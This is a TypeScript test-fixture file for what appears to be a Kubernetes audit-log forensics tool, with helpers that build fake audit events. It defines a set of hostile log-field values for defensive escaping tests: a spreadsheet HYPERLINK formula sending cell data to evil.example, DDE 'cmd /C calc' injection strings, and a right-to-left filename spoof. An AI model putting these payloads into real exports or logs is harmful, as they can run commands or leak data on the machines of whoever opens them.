import { emptyEvent, type NormalizedEvent } from '../model';
import type { CaseStore } from '../store/caseStore';
import { newTestCase } from './helpers';

/** Values an attacker can put in log fields, aimed at spreadsheets, terminals and HTML. */
export const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  plusCmd: '+cmd|" /C calc"!A0',
  atSum: '@SUM(1+1)*cmd|" /C calc"!A0',
  minus: '-2+3',
  tab: '\tsecret',
  cr: '\rsecret',
  emoji: 'alice 🦊 👩🏽‍💻',
  rtl: 'مستخدم\u202Eexe.txt',
  quotes: 'say "hi", then, leave',
  newline: 'line one\nline two\r\nline three',
};

export interface FixtureEvent {
  ts: number;
  user?: string;
  srcIp?: string;
  verb?: string;
  resource?: string;
  namespace?: string;
  name?: string;
  statusCode?: number;
  auditId?: string | null;
  userAgent?: string;
  cluster?: string;
}

/** A case holding these events, in one file `prod-eu-1/audit.log` (line n = event n), with known SHA-256. */
export async function caseWithEvents(events: readonly FixtureEvent[], path = 'prod-eu-1/audit.log', sha256 = 'a'.repeat(64)): Promise<CaseStore> {
  const store = await newTestCase();
  await addEvents(store, events, path, sha256);
  return store;
}

export async function addEvents(store: CaseStore, events: readonly FixtureEvent[], path: string, sha256: string): Promise<number> {
  const fileId = store.addFile({ path, size: 1000, sha256, format: 'k8s-audit', cluster: 'prod-eu-1', node: null });
  store.begin();
  events.forEach((e, i) => {
    const ev: NormalizedEvent = {
      ...emptyEvent('kube-audit', 'k8s-audit', e.ts, new Date(e.ts).toISOString()),
      cluster: e.cluster ?? 'prod-eu-1',
      user: e.user ?? 'alice@corp.example',
      srcIp: e.srcIp ?? '10.0.0.7',
      verb: e.verb ?? 'get',
      resource: e.resource ?? 'secrets',
      namespace: e.namespace ?? 'default',
      name: e.name ?? `obj-${i}`,
      statusCode: e.statusCode ?? 200,
      auditId: e.auditId === undefined ? `audit-${path}-${i}` : e.auditId,
      userAgent: e.userAgent ?? 'kubectl/v1.31',
      action: `${e.verb ?? 'get'} ${e.resource ?? 'secrets'}`,
      stage: 'ResponseComplete',
    };
    store.addEvent(fileId, i + 1, ev, JSON.stringify({ i }));
  });
  await store.flushAll();
  store.commit();
  store.finishFile(fileId, 'k8s-audit', { lines: events.length, events: events.length, merged: 0, rejected: 0, blank: 0 }, 'complete', null);
  return fileId;
}

/** `n` events one second apart from 2026-11-21 02:00:00 UTC. */
export const T0 = Date.UTC(2026, 10, 21, 2, 0, 0);
export const seconds = (n: number): FixtureEvent[] => Array.from({ length: n }, (_, i) => ({ ts: T0 + i * 1000 }));
